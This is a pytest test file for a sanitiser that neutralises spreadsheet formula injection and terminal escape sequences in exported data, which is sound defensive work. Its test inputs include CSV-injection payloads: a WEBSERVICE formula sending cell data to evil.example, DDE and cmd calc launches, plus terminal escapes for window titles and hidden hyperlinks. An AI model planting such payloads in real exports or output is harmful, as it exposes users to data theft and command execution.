"""``safe_output``: cells a spreadsheet would evaluate, and text a terminal would obey, made harmless."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from patscape.safe_output import (
    spreadsheet_cell,
    spreadsheet_frame,
    terminal_json,
    terminal_markup,
    terminal_text,
)


@pytest.mark.parametrize(
    "hostile",
    [
        '=WEBSERVICE("http://evil.example/?q="&B2)',
        '=DDE("cmd";"/C calc";"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        '   =HYPERLINK("http://evil.example")',
        "\n=1+1",
        "\u00a0=1+1",
        "-",
    ],
)
def test_formulas_become_text(hostile: str) -> None:
    assert spreadsheet_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "kept", ["Tencent", "-12", "-12.5", "+3", "-1e-3", "-4.5%", "1,234", "a=b", "Siemens AG - Munich", ""]
)
def test_text_and_numbers_written_as_text_are_unchanged(kept: str) -> None:
    assert spreadsheet_cell(kept) == kept


def test_numbers_stay_numbers() -> None:
    df = pd.DataFrame({"owner": ["=1+1", "IBM"], "share_change": [-0.25, 0.5], "families": [-3, 4]})
    out = spreadsheet_frame(df)
    assert out["owner"].tolist() == ["'=1+1", "IBM"]
    assert out["share_change"].tolist() == [-0.25, 0.5] and out["families"].tolist() == [-3, 4]
    assert out["share_change"].dtype == df["share_change"].dtype
    assert df["owner"].tolist() == ["=1+1", "IBM"]  # the caller's frame is left alone


def test_column_names_and_missing_values() -> None:
    df = pd.DataFrame({"=cmd": ["x", None]})
    out = spreadsheet_frame(df)
    assert list(out.columns) == ["'=cmd"] and pd.isna(out.iloc[1, 0])


def test_xlsx_cells_lose_the_controls_xlsx_cannot_hold() -> None:
    out = spreadsheet_frame(pd.DataFrame({"t": ["a\x1b[2Jb", "=x\x07"]}), xlsx=True)
    assert out["t"].tolist() == ["a\\x1b[2Jb", "'=x\\x07"]


ESCAPES = {
    "window title": "\x1b]0;pwned\x07",
    "clear screen": "\x1b[2J",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "8-bit CSI": "\x9b31m",
    "bidi override": "abc\u202edcba",
}


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_terminal_text_shows_controls_as_escapes(name: str) -> None:
    shown = terminal_text(f"Title {ESCAPES[name]} end")
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\u202e" not in shown and shown.startswith("Title ") and shown.endswith(" end")
    assert "\\x1b" in shown or "\\x9b" in shown or "\\u202e" in shown


def test_newlines_and_tabs_stay() -> None:
    assert terminal_text("a\nb\tc") == "a\nb\tc"


def test_rich_markup_in_data_is_text() -> None:
    assert terminal_markup("[link=http://evil.example]click[/link]") == (
        "\\[link=http://evil.example]click\\[/link]"
    )


def test_terminal_json_is_the_same_json() -> None:
    value = {"title": "x\x1b[2J\x9b31m\u202ey", "n": -1}
    text = json.dumps(value, ensure_ascii=False)
    safe = terminal_json(text)
    assert json.loads(safe) == value
    assert "\x9b" not in safe and "\u202e" not in safe and "\x1b" not in safe
